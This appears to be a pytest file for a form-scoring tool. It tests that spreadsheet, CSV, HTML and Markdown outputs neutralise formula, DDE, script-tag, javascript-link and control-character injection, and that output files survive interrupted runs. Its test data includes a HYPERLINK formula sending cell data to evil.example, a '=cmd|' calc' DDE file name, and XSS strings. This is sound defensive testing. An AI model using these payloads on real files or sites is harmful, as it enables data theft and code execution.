"""Outputs built from hostile text stay inert: no formula in a workbook or CSV, no control
character in a workbook, no markup through Markdown, and an output file is always whole."""

from __future__ import annotations

import csv
import io
import os
import re
import signal
import subprocess
import sys
import time
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from openpyxl import load_workbook

from rules_engine.render import markdown
from rules_engine.render.cells import FORMULA_TRIGGERS, safe_text
from rules_engine.render.rows import RunInfo, ScoredFile
from rules_engine.render.streams import BOM, CsvWriter
from rules_engine.render.workbook import WorkbookWriter
from rules_engine.scorecard import Scorecard
from tests import handmade
from tests.strategies import hostile_texts

HERE = Path(__file__).parent
HOSTILE = HERE / "fixtures" / "hostile"
SEED = HERE / "fixtures" / "explain" / "seed.txt"
RUN = RunInfo("test", datetime(2024, 1, 1, tzinfo=UTC), ("forms",))
# A cell that starts with a trigger is only allowed when it is a plain number.
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?%?")
_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


def _hostile_card(text: str) -> Scorecard:
    """The hand-made scorecard with `text` in every cell a form supplies."""
    card = handmade.card()
    forms = []
    for result in card.forms:
        cells = {"level1": text, "name": text, "target": text, "actual": text, "note": text}
        lines = tuple(
            replace(
                line,
                line=line.line.model_copy(update=cells),
                flags=tuple(replace(f, text=(text, text)) for f in line.flags),
            )
            for line in result.lines
        )
        form = result.form.model_copy(update={"project": text, "unit": text, "title": text})
        forms.append(replace(result, lines=lines, form=form))
    return replace(card, forms=tuple(forms))


def _safe(value: Any) -> None:
    if not isinstance(value, str):
        return
    assert not _CONTROL.search(value), repr(value)
    if value.startswith(FORMULA_TRIGGERS):
        assert _PLAIN_NUMBER.fullmatch(value), repr(value)


def _check_workbook(path: Path) -> int:
    book = load_workbook(path)  # not read-only: cell data types as stored
    cells = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                _safe(cell.value)
                cells += 1
    return cells


def _check_csv(text: str, rows: int) -> None:
    assert text.startswith(BOM)
    table = list(csv.reader(io.StringIO(text.removeprefix(BOM), newline="")))
    assert len(table) == rows  # a CR or line break inside a cell never splits a row
    for row in table:
        for cell in row:
            if cell.startswith(FORMULA_TRIGGERS):
                assert _PLAIN_NUMBER.fullmatch(cell), repr(cell)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=hostile_texts())
def test_workbook_and_csv_stay_inert(tmp_path_factory: pytest.TempPathFactory, text: str) -> None:
    card = _hostile_card(text)
    item = ScoredFile(text or "x", text or "x", "0" * 64, card)
    path = tmp_path_factory.mktemp("book") / "r.xlsx"
    writer = WorkbookWriter(str(path), "zh", RUN)
    writer.write(item)
    writer.close()
    assert _check_workbook(path) > 0
    buffer = io.StringIO(newline="")
    csv_writer = CsvWriter(buffer)
    csv_writer.write(item)
    _check_csv(buffer.getvalue(), 1 + sum(len(form.lines) for form in card.forms))


@settings(max_examples=50, deadline=None)
@given(text=hostile_texts())
def test_markdown_passes_no_markup(text: str) -> None:
    page = markdown.render(_hostile_card(text), "zh")
    assert not re.search(r"<[A-Za-z/!?]", page), "a tag, comment or autolink could start"
    assert not re.search(r"&#?\w+;", page.replace("&amp;", "").replace("&lt;", "")), "an entity"
    assert not re.search(r"(?<!\\)[\[\]]", page), "an unescaped bracket could start a link"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"点我")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"点我")',
        ),
        ("=1+2", "'=1+2"),
        ("+1+2", "'+1+2"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-1.33", "-1.33"),
        ("+5%", "+5%"),
        ("合规", "合规"),
        ("a\x1b[2Jb", "a␛[2Jb"),
        ("\x00\x07\x7f", "␀␇␡"),
        ("x\x9by", "x\ufffdy"),
    ],
)
def test_safe_text(text: str, shown: str) -> None:
    assert safe_text(text) == shown


def test_crafted_form_scores_into_inert_outputs(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # A form whose cells and file name are formulas, escapes and markup, scored to every format.
    from rules_engine.cli import main

    forms = tmp_path / "forms"
    forms.mkdir()
    # The crafted files that read as forms (the others are refused, see test_hostile_input).
    for name in ("controls.json", "formula.txt", "lone-cr.csv", "markup.txt", "numbers.json"):
        (forms / name).write_bytes((HOSTILE / name).read_bytes())
    # A file given by itself is shown by its name, so the name starts the cell.
    named = tmp_path / "=cmd|' calc'!A0.txt"
    named.write_bytes(SEED.read_bytes())
    for suffix in ("xlsx", "csv", "html"):
        out = tmp_path / f"r.{suffix}"
        args = ["score", str(forms), str(named), "--policy", "national-2020", "--out", str(out)]
        code = main(args)
        err = capsys.readouterr().err
        # 1: every file is scored, and numbers.json is read in part (its numbers are not read).
        assert code == 1, err
        assert "跳过" not in err and "1 张表只读取了一部分" in err
        if suffix == "xlsx":
            book = load_workbook(out)
            values = [c.value for s in book.worksheets for r in s.iter_rows() for c in r]
            assert "'=cmd|' calc'!A0.txt" in values
            assert any(isinstance(v, str) and "'=HYPERLINK" in v for v in values)
            _check_workbook(out)
        elif suffix == "csv":
            text = out.read_text(encoding="utf-8")
            _check_csv(text, len(list(csv.reader(io.StringIO(text, newline="")))))
            assert "'=1+2" in text
            assert "\n'=cmd|' calc'!A0.txt," in text.replace("\r\n", "\n")
        else:
            page = out.read_text(encoding="utf-8")
            assert "<script>alert" not in page
            assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


def test_markdown_explain_of_a_crafted_form(capsys: pytest.CaptureFixture[str]) -> None:
    from rules_engine.cli import main

    form = HOSTILE / "markup.txt"
    assert main(["explain", str(form), "--policy", "national-2020", "--format", "markdown"]) == 0
    page = capsys.readouterr().out
    assert "<script" not in page and "<img" not in page
    assert not re.search(r"(?<!\\)\]\(javascript:", page)
    assert "\\[点我\\](javascript:alert(1))" in page
    assert not re.search(r"(?<!\\)!\[", page)
    assert "&lt;script>alert(1)&lt;/script>" in page


# --- output files ------------------------------------------------------------------------------


def _cli(args: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    from rules_engine.cli import main

    code = main(args)
    return code, capsys.readouterr().err


def test_out_that_is_an_input_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    form = tmp_path / "form.csv"
    form.write_text("一级指标,二级指标\n", encoding="utf-8")
    code, err = _cli(["score", str(form), "--out", str(form)], capsys)
    assert (code, "E463" in err) == (2, True)
    assert form.read_text(encoding="utf-8") == "一级指标,二级指标\n"


def test_out_inside_an_input_folder_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "seed.txt").write_bytes(SEED.read_bytes())
    code, err = _cli(["score", str(tmp_path), "--out", str(tmp_path / "results.xlsx")], capsys)
    assert (code, "E464" in err) == (2, True)
    assert not (tmp_path / "results.xlsx").exists()
    # An HTML report is not a form: it may sit beside the forms.
    code, err = _cli(["score", str(tmp_path), "--out", str(tmp_path / "report.html")], capsys)
    assert code == 0, err


def test_a_mistyped_policy_keeps_the_earlier_results(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "results.csv"
    out.write_text("earlier results\n", encoding="utf-8")
    code, err = _cli(["score", str(SEED), "--policy", "natoinal-2020", "--out", str(out)], capsys)
    assert (code, "E452" in err) == (2, True)
    assert out.read_text(encoding="utf-8") == "earlier results\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["results.csv"]


def test_a_run_that_scores_nothing_keeps_the_earlier_results(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "results.xlsx"
    out.write_bytes(b"earlier")
    code, err = _cli(["score", str(tmp_path / "missing.txt"), "--out", str(out)], capsys)
    assert code == 2
    assert err.index("E462") < err.index("E465")
    assert out.read_bytes() == b"earlier"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["results.xlsx"]


def test_a_failure_while_writing_keeps_the_earlier_results(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    from rules_engine.render import streams

    out = tmp_path / "results.csv"
    out.write_text("earlier results\n", encoding="utf-8")

    def broken(self: object, item: ScoredFile) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(streams.CsvWriter, "write", broken)
    code, err = _cli(["score", str(SEED), "--out", str(out)], capsys)
    assert (code, "E461" in err) == (2, True)
    assert out.read_text(encoding="utf-8") == "earlier results\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["results.csv"]


def test_a_killed_run_leaves_a_whole_file(tmp_path: Path) -> None:
    # The run is killed while it writes; the output is the earlier file or a complete new one,
    # never a cut one. A FIFO among the inputs holds the run in the middle of the batch.
    out = tmp_path / "results.csv"
    out.write_text("earlier results\n", encoding="utf-8")
    forms = tmp_path / "forms"
    forms.mkdir()
    (forms / "a.txt").write_bytes(SEED.read_bytes())
    os.mkfifo(forms / "b.txt")
    (forms / "c.txt").write_bytes(SEED.read_bytes())
    command = [sys.executable, "-m", "rules_engine", "score", str(forms), "--out", str(out)]
    process = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 60
        while not list(tmp_path.glob(".results.csv.*.part")) and process.poll() is None:
            assert time.monotonic() < deadline, "the run never started writing"
            time.sleep(0.05)
        time.sleep(0.3)
    finally:
        process.send_signal(signal.SIGKILL)
        process.wait()
    text = out.read_bytes().decode("utf-8")
    if text != "earlier results\n":  # the run finished before the kill: then it is whole
        assert text.startswith(BOM) and text.count("\r\n") == 1 + 2 * (13 + 29)


def test_two_runs_on_one_output_leave_a_whole_file(tmp_path: Path) -> None:
    # Each run writes its own temporary file and renames it into place: the last rename wins,
    # and no row of one run is mixed into the other's.
    out = tmp_path / "results.csv"
    forms = tmp_path / "forms"
    forms.mkdir()
    for name in ("a.txt", "b.txt", "c.txt"):
        (forms / name).write_bytes(SEED.read_bytes())
    command = [sys.executable, "-m", "rules_engine", "score", "--out", str(out)]
    runs = [
        subprocess.Popen([*command, str(forms)], stderr=subprocess.DEVNULL),
        subprocess.Popen([*command, str(SEED)], stderr=subprocess.DEVNULL),
    ]
    assert [run.wait() for run in runs] == [0, 0]
    text = out.read_bytes().decode("utf-8")
    assert text.count("\r\n") in (1 + 3 * (13 + 29), 1 + 13 + 29)
    table = list(csv.reader(io.StringIO(text.removeprefix(BOM), newline="")))
    assert len({row[0] for row in table[1:]}) in (1, 3)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["forms", "results.csv"]
